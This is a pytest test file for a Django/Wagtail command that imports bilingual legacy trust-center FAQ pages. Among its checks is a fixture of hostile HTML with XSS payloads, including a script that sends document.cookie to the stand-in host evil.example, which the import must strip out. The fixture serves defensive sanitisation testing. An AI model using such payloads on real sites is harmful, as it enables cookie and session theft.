"""import_legacy_faq: the legacy pages, faithfully, in both languages."""

import io
import json
import re
import subprocess
import sys
from pathlib import Path

from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import TestCase

from wagtail.models import Page, Revision
from wagtail_localize.models import SegmentOverride, StringTranslation, Translation

import pytest
from bs4 import BeautifulSoup

from faq.models import FAQPage

pytestmark = pytest.mark.django_db

DEMO = Path(__file__).resolve().parents[2] / "trustcenter" / "demo"
ENGLISH = DEMO / "legacy-faq-en.txt"
CHINESE = DEMO / "legacy-faq-zh-cn.txt"


def run(*args):
    out = io.StringIO()
    # wagtail-localize publishes some work on commit; tests never commit.
    with TestCase.captureOnCommitCallbacks(execute=True):
        call_command("import_legacy_faq", *map(str, args), stdout=out)
    return out.getvalue()


def text(element):
    return " ".join(element.get_text(" ").split())


def blocks_of(answer):
    """What a reader sees of an answer: its paragraphs and list items, and its links."""
    paragraphs = [text(block) for block in answer.find_all(["p", "li"]) if text(block)]
    links = [(text(link), link["href"]) for link in answer.find_all("a")]
    return paragraphs, links


def legacy_view(path):
    """The legacy page as its visitors saw it, read straight from the file."""
    soup = BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")
    breadcrumb = soup.select_one("#BreadcrumbWrapper > div")
    items = []
    for item in soup.select(".content-faq"):
        question = re.sub(r"^\d+\.\s*", "", text(item.label))  # typed numbers are presentation
        items.append((question, blocks_of(item.select_one(".content-faq-footer"))))
    return {
        "hero": text(soup.select_one("#HeroWrapper h3.box-title")),
        "breadcrumb": " ".join(text(breadcrumb).split("<!--")[0].split()),
        "intro": text(soup.select_one("#ContentWrapper p")),
        "items": items,
    }


def rendered_view(client, url):
    response = client.get(url)
    assert response.status_code == 200
    soup = BeautifulSoup(response.content, "html.parser")
    items = [
        (
            text(item.select_one(".content-faq-question")),
            blocks_of(item.select_one(".content-faq-footer")),
        )
        for item in soup.select(".content-faq")
    ]
    return {
        "hero": text(soup.select_one("#HeroWrapper h3.box-title")),
        "breadcrumb": text(soup.select_one("#BreadcrumbWrapper")),
        "intro": text(soup.select_one("#ContentWrapper .intro")),
        "items": items,
        "soup": soup,
    }


@pytest.fixture
def imported():
    return run(ENGLISH, CHINESE)


def test_english_page_reads_as_the_legacy_page(client, imported):
    legacy, page = legacy_view(ENGLISH), rendered_view(client, "/en/faq/")
    assert page["hero"] == legacy["hero"] == "Frequently Asked Questions"
    assert (
        page["breadcrumb"] == legacy["breadcrumb"] == "Trust Center // Frequently Asked Questions"
    )
    assert page["intro"] == legacy["intro"]
    assert len(page["items"]) == 15
    for position, (rendered, original) in enumerate(
        zip(page["items"], legacy["items"], strict=True)
    ):
        assert rendered == original, f"item {position + 1}"
    assert page["soup"].select_one(".content-faq-footer b").get_text() == "Metadata"


def test_chinese_page_reads_as_the_legacy_page(client, imported):
    legacy, page = legacy_view(CHINESE), rendered_view(client, "/zh-hans/faq/")
    assert page["hero"] == legacy["hero"] == "常见问题（FAQ）"
    assert page["breadcrumb"] == legacy["breadcrumb"] == "信任中心 // 常见问题（FAQ）"
    assert page["intro"] == legacy["intro"]
    assert len(page["items"]) == 14
    for position, (rendered, original) in enumerate(
        zip(page["items"], legacy["items"], strict=True)
    ):
        assert rendered == original, f"item {position + 1}"
    # The legacy Chinese page numbered its questions; the template draws the numbers.
    assert "content-faq-list--numbered" in page["soup"].select_one("ol.content-faq-list")["class"]
    # Its Office 365 agreement link differs from the English one, and says so.
    hrefs = {a["href"] for a in page["soup"].select(".content-faq-footer a")}
    assert "http://www.21vbluecloud.com/office365/O365-AgreeWebDir/" in hrefs
    assert "http://www.21vbluecloud.com/office365/O365-SLA/" not in hrefs


def test_the_english_only_item_is_held_back_from_the_chinese_page(client, imported):
    chinese = rendered_view(client, "/zh-hans/faq/")
    assert not re.search(
        r"[A-Za-z]{4,} [a-z]{3,} [a-z]{3,}", text(chinese["soup"].select_one("ol"))
    )
    assert "English item 15 has no zh-hans counterpart" in imported
    zh = FAQPage.objects.get(locale__language_code="zh-hans")
    en = FAQPage.objects.get(locale__language_code="en")
    assert zh.untranslated_faq_ids == [en.faqs[14].id]


def test_the_chinese_page_is_a_wagtail_localize_translation(imported, admin_client):
    en = FAQPage.objects.get(locale__language_code="en")
    zh = FAQPage.objects.get(locale__language_code="zh-hans")
    assert zh.translation_key == en.translation_key
    assert [block.id for block in zh.faqs] == [block.id for block in en.faqs]
    translation = Translation.objects.get(source__object_id=en.translation_key)
    assert translation.target_locale.language_code == "zh-hans"
    first_question = f"faqs.{en.faqs[0].id}.question"
    stored = StringTranslation.objects.get(context__path=first_question, locale=zh.locale)
    assert stored.data == "微软在世纪互联运营的 Microsoft Azure 和 Office 365 服务中扮演何种角色？"
    override = SegmentOverride.objects.get(locale=zh.locale)
    assert override.data == "http://www.21vbluecloud.com/office365/O365-AgreeWebDir/"
    # A translator opening the translation editor sees the Chinese, not blanks.
    response = admin_client.get(f"/admin/pages/{zh.pk}/edit/")
    assert response.status_code == 200
    editor = BeautifulSoup(response.content, "html.parser").find(attrs={"data-props": True})
    props = json.dumps(json.loads(editor["data-props"]), ensure_ascii=False)
    assert '"data": "微软能否访问我的客户数据？"' in props


def test_report_says_what_was_done(imported):
    assert "en: created 'Frequently Asked Questions' at /en/faq/ (15 items, published)" in imported
    assert "zh-hans: created '常见问题（FAQ）' at /zh-hans/faq/ (14 items, published)" in imported
    assert "paired 14 of 15 English items" in imported
    assert "stripped typed numbering from 14 questions" in imported
    # The legacy English asks its 14th question again; the import keeps it and says so.
    assert "Item 15: the question is item 14's again" in imported
    assert "kept as on the legacy site" in imported
    assert "O365-SLA/ is http://www.21vbluecloud.com/office365/O365-AgreeWebDir/" in imported


def counts():
    return Page.objects.count(), Revision.objects.count(), StringTranslation.objects.count()


def test_running_again_changes_nothing(imported):
    before = counts()
    report = run(ENGLISH, CHINESE)
    assert counts() == before
    assert "en: unchanged" in report and "zh-hans: unchanged" in report


def test_changed_file_adds_a_revision_and_keeps_anchors(tmp_path, imported, client):
    en = FAQPage.objects.get(locale__language_code="en")
    anchors = [block.id for block in en.faqs]
    revisions = en.revisions.count()
    changed = tmp_path / "faq.txt"
    source = ENGLISH.read_text(encoding="utf-8")
    changed.write_text(
        source.replace(
            "Can 21Vianet customize its audit for customers?", "Can audits be customized?"
        ),
        encoding="utf-8",
    )
    report = run(changed)
    en.refresh_from_db()
    assert "en: updated" in report
    assert en.revisions.count() == revisions + 1
    assert FAQPage.objects.filter(locale__language_code="en").count() == 1
    assert [block.id for block in en.faqs] == anchors
    assert "Can audits be customized?" in client.get("/en/faq/").content.decode()


def test_dry_run_writes_nothing(imported):
    before = counts()
    changed_report = run("--dry-run", ENGLISH, CHINESE)
    assert "Dry run: nothing was written." in changed_report
    assert counts() == before
    FAQPage.objects.all().delete()
    before = counts()
    report = run("--dry-run", ENGLISH, CHINESE)
    assert "en: created" in report
    assert counts() == before


def test_draft_publishes_nothing(client):
    report = run("--draft", ENGLISH, CHINESE)
    assert "(15 items, draft)" in report
    assert client.get("/en/faq/").status_code == 404
    assert client.get("/zh-hans/faq/").status_code == 404
    assert FAQPage.objects.filter(live=False).count() == 2


def test_language_prefixes_override_front_matter(tmp_path, client):
    bare = tmp_path / "old-version.html"
    bare.write_text(CHINESE.read_text(encoding="utf-8").split("---", 2)[2], encoding="utf-8")
    english = tmp_path / "english.html"
    english.write_text(ENGLISH.read_text(encoding="utf-8").split("---", 2)[2], encoding="utf-8")
    run(f"en-us={english}", f"zh-cn={bare}", "--slug", "faq-2016")
    assert client.get("/zh-hans/faq-2016/").status_code == 200
    assert client.get("/en/faq-2016/").status_code == 200


def test_a_chinese_file_alone_makes_a_page_of_its_own(client):
    report = run(CHINESE)
    zh = FAQPage.objects.get()
    assert zh.locale.language_code == "zh-hans"
    assert not zh.get_translations().exists()
    assert "no English source" in report
    assert len(rendered_view(client, "/zh-hans/faq/")["items"]) == 14
    # Importing the English later links the two.
    run(ENGLISH, CHINESE)
    assert FAQPage.objects.get(locale__language_code="en").translation_key == zh.translation_key
    assert FAQPage.objects.count() == 2


# -- bad input ------------------------------------------------------------------------


def refused(*args):
    """Run the command; return (exit status, message) of its refusal."""
    with pytest.raises(CommandError) as refusal:
        run(*args)
    return refusal.value.returncode, str(refusal.value)


def test_a_refusal_exits_with_status_2_and_one_line(tmp_path):
    missing = tmp_path / "missing.txt"
    result = subprocess.run(
        [sys.executable, "manage.py", "import_legacy_faq", str(ENGLISH), str(missing)],
        cwd=Path(__file__).resolve().parents[2],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 2
    assert result.stderr == f"CommandError: {missing}: cannot read it (no such file or directory)\n"


@pytest.fixture
def unchanged_database():
    run(ENGLISH, CHINESE)
    before = counts()
    yield
    assert counts() == before


def write(tmp_path, name, content, mode="w"):
    path = tmp_path / name
    if mode == "w":
        path.write_text(content, encoding="utf-8")
    else:
        path.write_bytes(content)
    return path


@pytest.mark.parametrize(
    ("make_file", "reason"),
    [
        (lambda tmp: tmp / "missing.txt", "cannot read it (no such file or directory)"),
        (lambda tmp: tmp, "not a file"),
        (
            lambda tmp: write(tmp, "latin1.txt", b"---\nlayout: TrustCenterPage\n---\n\xe9", "b"),
            "not UTF-8 text",
        ),
        (
            lambda tmp: write(
                tmp,
                "empty.txt",
                "---\nlayout: TrustCenterPage\n---\n<div id='ContentWrapper'><p>Hi</p></div>",
            ),
            "no FAQ items",
        ),
        (
            lambda tmp: write(
                tmp,
                "nolang.txt",
                ENGLISH.read_text(encoding="utf-8").replace(
                    "layout: TrustCenterPage", "layout: Other"
                ),
            ),
            "cannot tell its language",
        ),
        (
            lambda tmp: write(
                tmp, "huge.txt", "---\nlayout: TrustCenterPage\n---\n" + "x" * (3 * 1024 * 1024)
            ),
            "too large",
        ),
    ],
)
def test_bad_files_are_refused_with_one_line(tmp_path, unchanged_database, make_file, reason):
    path = make_file(tmp_path)
    status, message = refused(ENGLISH, path)
    assert status == 2
    assert "\n" not in message
    assert str(path) in message and reason in message


def test_unknown_language_prefix_is_refused(tmp_path, unchanged_database):
    status, message = refused(f"fr={ENGLISH}")
    assert status == 2
    assert "unknown language 'fr'" in message and str(ENGLISH) in message


def test_two_files_of_one_language_are_refused(tmp_path, unchanged_database):
    copy = write(tmp_path, "copy.txt", ENGLISH.read_text(encoding="utf-8"))
    status, message = refused(ENGLISH, copy)
    assert status == 2
    assert f"{copy}: a second en file ({ENGLISH} is en too)" in message


def test_a_bad_second_file_leaves_the_first_unwritten(tmp_path):
    status, message = refused(ENGLISH, tmp_path / "missing.txt")
    assert status == 2
    assert not FAQPage.objects.exists()


def test_more_chinese_items_than_english_is_refused(tmp_path, unchanged_database):
    extra_item = (
        '<div class="content-faq"><label>额外的问题？</label>'
        '<div class="content-faq-footer"><p>额外。</p></div></div>'
    )
    extra = CHINESE.read_text(encoding="utf-8").replace(
        '<div class="content-faq">', extra_item * 2 + '<div class="content-faq">', 1
    )
    path = write(tmp_path, "zh.txt", extra)
    status, message = refused(path)
    assert status == 2
    assert f"{path}: 16 items, but the English page has only 15" in message


HOSTILE = """---
layout: TrustCenterPage
---
<div id="HeroWrapper"><h3 class="box-title" onclick="steal()">Safe FAQ</h3></div>
<div id="ContentWrapper">
<p onclick="steal()">Intro <a href="javascript:alert('intro')">click</a></p>
<div class="content-faq">
  <label>Is it safe?<script>alert('question')</script></label>
  <div class="content-faq-footer">
    <p style="color:red" onmouseover="steal()">Yes.<script>document.location='https://evil.example/'+document.cookie</script></p>
    <ul><li><a href="javascript:steal()" onclick="steal()">Evil link</a></li>
    <li><a href="https://good.example/" onfocus="steal()">Good link</a></li></ul>
    <img src="x" onerror="steal()"><iframe src="https://evil.example/"></iframe>
    <style>body{display:none}</style>
  </div>
</div>
</div>
"""


def test_hostile_markup_never_reaches_the_database_or_the_page(tmp_path, client):
    path = write(tmp_path, "hostile.txt", HOSTILE)
    report = run(path)
    stored = " ".join(str(revision.content) for revision in Revision.objects.all())
    stored += str(FAQPage.objects.get().faqs.raw_data) + FAQPage.objects.get().intro
    page = client.get("/en/faq/").content.decode()
    for payload in [
        "steal(",
        "javascript:",
        "alert(",
        "evil.example",
        "onclick",
        "onerror",
        "style=",
        "display:none",
    ]:
        assert payload not in stored, payload
        assert payload not in page, payload
    assert "Good link" in page and 'href="https://good.example/"' in page
    assert "Evil link" in page  # the text survives, the link does not
    for dropped in [
        "<script> element",
        "onclick event handler",
        "style attribute",
        "unsafe link 'javascript:steal()'",
        "<iframe> element",
    ]:
        assert dropped in report, dropped


def test_a_language_without_a_home_is_refused():
    Page.objects.get(depth=2, locale__language_code="zh-hans").delete()
    status, message = refused(ENGLISH, CHINESE)
    assert status == 2
    assert message == "the site has no zh-hans home to import into (run migrate)"
    assert not FAQPage.objects.exists()
